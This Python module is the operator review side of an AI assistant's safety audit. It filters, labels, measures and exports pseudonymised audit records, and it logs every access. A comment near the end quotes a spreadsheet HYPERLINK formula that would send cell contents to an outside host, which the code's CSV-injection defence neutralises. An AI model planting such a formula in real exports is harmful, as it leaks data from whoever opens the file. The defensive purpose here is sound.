"""The operators' side of the audit: filter, page, read one record, label it, count, export.

Shared by the console pages, their JSON API and `hyperalign audit ...`, so all three see the same
records. Users appear only as pseudonyms. Message text (the request and the reply) is read from the
`message` table only for the detail view, the export and the console page's short request excerpts,
and every such read, every label and every export is written to `operator_action` with who and when
(an excerpt shown in the list is a `view` of its record with detail `excerpt`). Exports are streamed
in batches, so 100,000 records never sit in memory at once.
"""

from __future__ import annotations

import csv
import io
import json
from collections import Counter, defaultdict
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, fields
from datetime import UTC, date, datetime, time, timedelta

from sqlalchemy import Engine, func
from sqlalchemy import select as sa_select
from sqlmodel import Session, col, select

from assistant.safety.audit import LABELS
from assistant.safety.deliberate import REPAIRED
from assistant.safety.spec import Spec
from memory.models import (
    AuditDecision,
    AuditRecord,
    Label,
    Message,
    OperatorAction,
    OperatorActionKind,
    aware,
    table_of,
    utcnow,
)
from memory.store import possible_row_id
from memory.text import clean_text

DECISIONS = tuple(AuditDecision)
LABEL_FILTERS = (*LABELS, "unlabelled")
MAX_PAGE_SIZE = 200
# A filter value is compared with a column of at most 128 characters (model); a longer one matches
# nothing, and 50,000 characters inside a LIKE pattern is more than SQLite accepts.
MAX_FILTER_CHARS = 128
MAX_NOTE_CHARS = 2_000
EXCERPT_CHARS = 120
EXPORT_BATCH = 500
EXPORT_FIELDS = ("id", "created_at", "pseudonym", "decision", "rule_ids", "rationale", "failure", "spec_version",
                 "model", "latency_ms", "routed", "label", "note", "labelled_by", "labelled_at", "thread_id",
                 "message_id", "reply_id", "request", "reply")


class ReviewError(Exception):
    """A filter, page or label that cannot be used; the message says why. `status` for HTTP."""

    status = 400


class RecordNotFound(ReviewError):
    status = 404


@dataclass(frozen=True)
class AuditFilter:
    date_from: date | None = None
    date_to: date | None = None  # inclusive
    decision: str | None = None
    rule_id: str | None = None
    pseudonym: str | None = None
    label: str | None = None  # a label, or "unlabelled"
    model: str | None = None
    spec_version: str | None = None

    def query_string(self) -> dict[str, str]:
        return {f.name: str(getattr(self, f.name)) for f in fields(self) if getattr(self, f.name) not in (None, "")}


def parse_filter(values: Mapping[str, str | None], spec: Spec, known_rule=None) -> AuditFilter:
    """Pure but for `known_rule(rule_id) -> bool` (rule ids of older specs live only in records)."""
    clean = {k: _filter_value(k, v) for k, v in values.items() if k in {f.name for f in fields(AuditFilter)}}
    # In words first (the console shows these), with the parameter's name for scripts.
    date_from = _date(clean.get("date_from"), "The start date (date_from)")
    date_to = _date(clean.get("date_to"), "The end date (date_to)")
    if date_from and date_to and date_from > date_to:
        raise ReviewError(f"The date range is empty: it starts on {date_from} (date_from), after it ends on {date_to} "
                          "(date_to).")
    decision, label, rule = clean.get("decision"), clean.get("label"), clean.get("rule_id")
    if decision and decision not in DECISIONS:
        raise ReviewError(f"Unknown decision {decision!r}; use one of {', '.join(DECISIONS)}.")
    if label and label not in LABEL_FILTERS:
        raise ReviewError(f"Unknown label {label!r}; use one of {', '.join(LABEL_FILTERS)}.")
    if rule and rule not in spec.rules and not (known_rule and known_rule(rule)):
        raise ReviewError(f"Unknown rule id {rule!r}: it is not in the spec (version {spec.version}) and no record "
                          "cites it.")
    return AuditFilter(date_from, date_to, decision, rule, clean.get("pseudonym"), label, clean.get("model"),
                       clean.get("spec_version"))


def _filter_value(name: str, value: str | None) -> str | None:
    text = (value or "").strip()
    if len(text) > MAX_FILTER_CHARS:
        raise ReviewError(f"{name} can be at most {MAX_FILTER_CHARS} characters.")
    if clean_text(text) != text:  # NUL (which PostgreSQL refuses) or another control character
        raise ReviewError(f"{name} cannot contain control characters.")
    return text or None


def _date(value: str | None, name: str) -> date | None:
    if not value:
        return None
    try:
        return date.fromisoformat(value)
    except ValueError:
        raise ReviewError(f"{name} must be a date like 2026-11-27, not {value!r}.") from None


def parse_page(page: str | int | None, size: str | int | None) -> tuple[int, int]:
    try:
        number = 1 if page in (None, "") else int(page)
        per = 50 if size in (None, "") else int(size)
    except (TypeError, ValueError):
        raise ReviewError("page and page_size must be whole numbers.") from None
    if number < 1 or not 1 <= per <= MAX_PAGE_SIZE:
        raise ReviewError(f"page starts at 1 and page_size is 1 to {MAX_PAGE_SIZE}.")
    return number, per


def rule_is_cited(session: Session, rule_id: str) -> bool:
    return session.exec(select(AuditRecord.id).where(
        col(AuditRecord.rule_ids_json).contains(json.dumps(rule_id))).limit(1)).first() is not None


def _where(query, f: AuditFilter):
    if f.date_from:
        query = query.where(AuditRecord.created_at >= datetime.combine(f.date_from, time.min, UTC))
    if f.date_to and (end := _end_of(f.date_to)):
        query = query.where(AuditRecord.created_at < end)
    for name in ("decision", "pseudonym", "model", "spec_version"):
        if getattr(f, name):
            query = query.where(getattr(AuditRecord, name) == getattr(f, name))
    if f.rule_id:
        query = query.where(col(AuditRecord.rule_ids_json).contains(json.dumps(f.rule_id)))
    if f.label == "unlabelled":
        query = query.where(col(AuditRecord.label).is_(None))
    elif f.label:
        query = query.where(AuditRecord.label == f.label)
    return query


def _end_of(day: date) -> datetime | None:
    """The first instant after `day` (UTC); None after the calendar's last day, which bounds nothing."""
    if day == date.max:  # date.max + 1 day does not exist
        return None
    return datetime.combine(day + timedelta(days=1), time.min, UTC)


def summary(record: AuditRecord) -> dict:
    """A list row: no message text, the user by pseudonym."""
    return {"id": record.id, "created_at": aware(record.created_at).isoformat(), "pseudonym": record.pseudonym,
            "decision": record.decision, "rule_ids": json.loads(record.rule_ids_json), "model": record.model,
            "spec_version": record.spec_version, "latency_ms": record.latency_ms, "label": record.label,
            "labelled_by": record.labelled_by}


def list_records(session: Session, f: AuditFilter, *, page: int, page_size: int) -> dict:
    total = session.exec(_where(select(func.count()).select_from(AuditRecord), f)).one()
    pages = max(1, -(-total // page_size))
    rows = [] if page > pages else session.exec(  # a page past the end is empty, whatever its number
        _where(select(AuditRecord), f).order_by(col(AuditRecord.id).desc())
        .offset((page - 1) * page_size).limit(page_size)).all()
    return {"records": [summary(r) for r in rows], "total": total, "page": page, "page_size": page_size,
            "pages": pages, "note": None if page <= pages else f"There are only {pages} page(s) of {total} records."}


def excerpt(text: str | None) -> str | None:
    """Pure: the start of a request, on one line, cut at a word near EXCERPT_CHARS (None if there is no text)."""
    flat = " ".join((text or "").split())
    if len(flat) <= EXCERPT_CHARS:
        return flat or None
    cut = flat[:EXCERPT_CHARS].rsplit(" ", 1)[0] or flat[:EXCERPT_CHARS]
    return cut + "…"


def with_excerpts(session: Session, records: list[dict], *, operator: str) -> list[dict]:
    """List rows with a short excerpt of each request, for triage on the console page. Each excerpt shown
    is a read of the user's text, so it is logged as a `view` of its record, as the detail view is."""
    rows = session.exec(select(AuditRecord.id, AuditRecord.message_id).where(
        col(AuditRecord.id).in_([r["id"] for r in records]))).all()
    step_of = {record_id: step for record_id, step in rows if step}
    texts = dict(session.exec(select(Message.step_id, Message.content).where(
        col(Message.step_id).in_(list(step_of.values())))).all()) if step_of else {}
    shown = []
    for record in records:
        text = excerpt(texts.get(step_of.get(record["id"], "")))
        if text is not None:
            log_action(session, operator=operator, action=OperatorActionKind.VIEW, record_id=record["id"],
                       detail="excerpt")
        shown.append({**record, "excerpt": text})
    return shown


def _texts(session: Session, record: AuditRecord) -> tuple[str | None, str | None]:
    def text_of(step_id: str) -> str | None:
        if not step_id:
            return None
        return session.exec(select(Message.content).where(Message.step_id == step_id)).first()

    return text_of(record.message_id), text_of(record.reply_id)


def detail(session: Session, *, record_id: int, spec: Spec, operator: str) -> dict:
    """One record with the request and reply text and the cited rules' text; the read is logged."""
    record = _get(session, record_id)
    request, reply = _texts(session, record)
    rules = spec.rules
    cited = [{"id": rid, "text": rules[rid].text if rid in rules else None,
              "category": rules[rid].category if rid in rules else None}
             for rid in json.loads(record.rule_ids_json)]
    log_action(session, operator=operator, action=OperatorActionKind.VIEW, record_id=record.id)
    return {**summary(record), "thread_id": record.thread_id, "message_id": record.message_id,
            "reply_id": record.reply_id, "request": request, "reply": reply, "rationale": record.rationale,
            "failure": record.failure, "routed": json.loads(record.routed_json), "cited": cited,
            "note": record.note, "labelled_at": aware(record.labelled_at).isoformat() if record.labelled_at else None,
            "current_spec": record.spec_version == spec.version}


def _get(session: Session, record_id: int) -> AuditRecord:
    record = session.get(AuditRecord, record_id) if possible_row_id(record_id) else None
    if record is None:
        raise RecordNotFound(f"There is no audit record {record_id}.")
    return record


def label(session: Session, *, record_id: int, value: object, note: object, operator: str) -> AuditRecord:
    """Values arrive from JSON as anything: only a known label and a text note (or none) pass."""
    if not isinstance(value, str) or value not in LABELS:
        shown = repr(value)[:40] if isinstance(value, str) else f"a {type(value).__name__}"
        raise ReviewError(f"A label is one of {', '.join(LABELS)}, not {shown}.")
    if note is not None and not isinstance(note, str):
        raise ReviewError("A note is text (or left out).")
    if note is not None and len(note) > MAX_NOTE_CHARS:
        raise ReviewError(f"A note can be at most {MAX_NOTE_CHARS:,} characters.")
    record = _get(session, record_id)
    if value not in labels_for(record.decision):
        raise ReviewError(_wrong_label(value, record_id, record.decision))
    record.label, record.note = Label(value), clean_text(note or "").strip() or None
    record.labelled_by, record.labelled_at = operator, utcnow()
    session.add(record)
    log_action(session, operator=operator, action=OperatorActionKind.LABEL, record_id=record.id, detail=value)
    return record


def labels_for(decision: str) -> tuple[str, ...]:
    """The labels a record of this decision can take. Over-refusal judges a refusal, and only refusals are
    counted by the over-refusal metric (`metrics`), so a safe completion or a failed deliberation cannot take it.
    Under-refusal says "it should have refused", which a refusal cannot have failed to do."""
    wrong = Label.UNDER_REFUSAL if decision == AuditDecision.REFUSE else Label.OVER_REFUSAL
    return tuple(value for value in LABELS if value != wrong)


def _wrong_label(value: str, record_id: int, decision: str) -> str:
    why = ("a label for refusals only" if value == Label.OVER_REFUSAL
           else "a label for records that were answered (it says the assistant should have refused)")
    return (f"{value} is {why}; record {record_id} is {decision}. "
            f"Label it {' or '.join(labels_for(decision))}, and say more in the note.")


def log_action(session: Session, *, operator: str, action: OperatorActionKind, record_id: int | None = None,
               detail: str | None = None) -> None:
    session.add(OperatorAction(operator=operator, action=action, record_id=record_id, detail=detail))


def category_of(spec: Spec, rule_ids: list[str]) -> str:
    rules = spec.rules
    for rid in rule_ids:
        if rid in rules and (category := rules[rid].category):
            return category
    return "general" if rule_ids else "none"


def metrics(session: Session, f: AuditFilter, spec: Spec) -> dict:
    """Decisions per category per day, the share of reviewed refusals labelled over_refusal, and how often
    the deliberation failed (fallback) or stood with repaired rule ids, among the audited records."""
    per_day: dict[str, Counter] = defaultdict(Counter)
    reviewed = over = audited = failed = repaired = 0
    # sqlmodel's select() is typed for at most four columns; this one takes five
    query = _where(select(AuditRecord.created_at, AuditRecord.decision, AuditRecord.rule_ids_json,  # type: ignore[call-overload]
                          AuditRecord.label, AuditRecord.failure), f)
    for created, decision, rule_json, value, failure in session.exec(query).yield_per(EXPORT_BATCH):
        day = aware(created).date().isoformat()
        per_day[day][f"{decision}:{category_of(spec, json.loads(rule_json))}"] += 1
        audited += 1
        failed += decision == AuditDecision.DELIBERATION_FAILED
        repaired += bool(failure) and failure.startswith(REPAIRED)
        if decision == AuditDecision.REFUSE and value is not None:
            reviewed += 1
            over += value == Label.OVER_REFUSAL
    return {"per_day": {day: dict(counts) for day, counts in sorted(per_day.items())},
            "reviewed_refusals": reviewed, "over_refusal_share": round(over / reviewed, 4) if reviewed else None,
            "audited": audited, "deliberation_failed": failed, "ids_repaired": repaired,
            "deliberation_failed_share": round(failed / audited, 4) if audited else None}


def export_rows(engine: Engine, f: AuditFilter, *, operator: str) -> Iterator[dict]:
    """Every filtered record with its texts, oldest first, read in batches; the export is logged first.

    One query per batch, with the request and reply texts joined in (not two more per record), read as
    plain rows: the export only reads, so it needs no ORM objects.
    """
    from memory.db import write

    write(engine, lambda s: log_action(s, operator=operator, action=OperatorActionKind.EXPORT,
                                       detail=json.dumps(f.query_string())))
    audit, messages = table_of(AuditRecord), table_of(Message)
    request, reply = messages.alias("request"), messages.alias("reply")
    query = (_where(sa_select(audit, request.c.content.label("request"), reply.c.content.label("reply")), f)
             .select_from(audit.outerjoin(request, request.c.step_id == audit.c.message_id)
                          .outerjoin(reply, reply.c.step_id == audit.c.reply_id))
             .order_by(audit.c.id).limit(EXPORT_BATCH))
    last = 0
    while True:
        with engine.connect() as conn:
            rows = [_export_row(row._mapping) for row in conn.execute(query.where(audit.c.id > last))]
        if not rows:
            return
        yield from rows
        last = rows[-1]["id"]


def _export_row(row: Mapping) -> dict:
    labelled_at = row["labelled_at"]
    return {"id": row["id"], "created_at": aware(row["created_at"]).isoformat(), "pseudonym": row["pseudonym"],
            "decision": row["decision"], "rule_ids": json.loads(row["rule_ids_json"]), "rationale": row["rationale"],
            "failure": row["failure"], "spec_version": row["spec_version"], "model": row["model"],
            "latency_ms": row["latency_ms"], "routed": json.loads(row["routed_json"]), "label": row["label"],
            "note": row["note"], "labelled_by": row["labelled_by"],
            "labelled_at": aware(labelled_at).isoformat() if labelled_at else None,
            "thread_id": row["thread_id"], "message_id": row["message_id"], "reply_id": row["reply_id"],
            "request": row["request"] if row["message_id"] else None,
            "reply": row["reply"] if row["reply_id"] else None}


def as_jsonl(rows: Iterator[dict]) -> Iterator[str]:
    for row in rows:
        yield json.dumps(row, ensure_ascii=False) + "\n"


# A spreadsheet runs a cell that starts with one of these as a formula: a user's message such as
# =HYPERLINK("https://elsewhere/?"&A1, "Open") would send other cells away from the operator's
# machine (OWASP, "CSV Injection"). Tab and carriage return are on OWASP's list as well.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """A text cell that would start a formula, prefixed with a single quote so it is shown as text.

    Only the CSV export does this; JSONL carries the exact text, for programs rather than spreadsheets.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def as_csv(rows: Iterator[dict]) -> Iterator[str]:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=EXPORT_FIELDS)
    writer.writeheader()
    for row in rows:
        writer.writerow({k: csv_cell(";".join(v) if isinstance(v, list) else v) for k, v in row.items()})
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
    if buffer.getvalue():
        yield buffer.getvalue()
